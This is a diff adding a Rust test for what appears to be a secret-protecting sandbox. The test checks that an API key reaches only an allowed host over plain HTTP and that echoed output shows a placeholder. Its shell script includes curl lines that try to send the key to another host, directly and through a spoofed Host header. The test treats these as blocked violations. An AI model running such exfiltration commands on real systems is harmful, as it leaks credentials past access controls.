@@ -595,3 +595,76 @@ try --http2 "https://other.example.test:8445/t-h2-control"
     assert_eq!(violations(&events).len(), 7, "{events:?}");
     assert!(!w.log().iter().any(|l| l.to_string().contains("moat_")));
 }
+
+#[test]
+fn plain_http_carries_the_value_only_when_the_secret_allows_it() {
+    let w = World::new();
+    let script = r#"
+p="$API_KEY"
+curl -sS -m 10 -H "X-Key: $p" "http://api.example.test:8080/plain-header?key=$p"; echo
+curl -sS -m 10 --data "{\"k\":\"$p\"}" http://api.example.test:8080/plain-json; echo
+curl -sS -m 10 -o /dev/null "http://other.example.test:8080/plain-other?k=$p"; echo "exit=$?"
+curl -sS -m 10 -o /dev/null -H "Host: other.example.test" "http://api.example.test:8080/plain-fronted?k=$p"; echo "exit=$?"
+python3 - <<'PY'
+import socket
+s = socket.create_connection(("api.example.test", 9000), timeout=10)
+s.sendall(b"not http at all\n")
+s.shutdown(socket.SHUT_WR)
+print("sink", len(s.recv(200)) > 0)
+PY
+echo "placeholder=$p"
+"#;
+    let (out, events, audit) = run(&w, &["--secret-plain-http", "API_KEY"], script);
+    let text = stdout(&out);
+    let placeholder = text
+        .lines()
+        .find_map(|l| l.strip_prefix("placeholder="))
+        .unwrap_or_else(|| panic!("{text}\n{}", stderr(&out)))
+        .to_owned();
+    let header_req = arrived(&w, "/plain-header");
+    assert_eq!(header_req["path"], format!("/plain-header?key={VALUE}"));
+    assert_eq!(header(&header_req, "X-Key"), Some(VALUE));
+    assert_eq!(
+        arrived(&w, "/plain-json")["body"],
+        format!("{{\"k\":\"{VALUE}\"}}")
+    );
+    // The echoes came back with the placeholder.
+    assert!(!text.contains(VALUE), "{text}");
+    assert!(
+        text.contains(&format!("/plain-header?key={placeholder}")),
+        "{text}"
+    );
+    // Another host, by address or by Host header: a violation, nothing arrives.
+    let paths: Vec<String> = w
+        .log()
+        .iter()
+        .filter_map(|l| l["path"].as_str().map(str::to_owned))
+        .collect();
+    assert!(
+        !paths
+            .iter()
+            .any(|p| p.starts_with("/plain-other") || p.starts_with("/plain-fronted")),
+        "{paths:?}"
+    );
+    assert_eq!(violations(&events).len(), 2, "{events:?}");
+    assert!(swapped(&events, "substituted") >= 2, "{events:?}");
+    // What is not HTTP, to the same host, passes as it is.
+    assert!(text.contains("sink True"), "{text}");
+    assert!(
+        w.log()
+            .iter()
+            .any(|l| l["server"] == "sink" && l["bytes"] == 16)
+    );
+    assert!(!audit.contains(VALUE) && !stderr(&out).contains(VALUE));
+
+    // Naming a secret that is not given is an error.
+    let mut cmd = w.in_host(moat_bin());
+    cmd.args(["run", "--secret-plain-http", "NOPE", "--", "true"]);
+    let out = run_with_timeout(cmd, T);
+    assert_eq!(out.status.code(), Some(125));
+    assert!(
+        stderr(&out).contains("--secret-plain-http NOPE"),
+        "{}",
+        stderr(&out)
+    );
+}
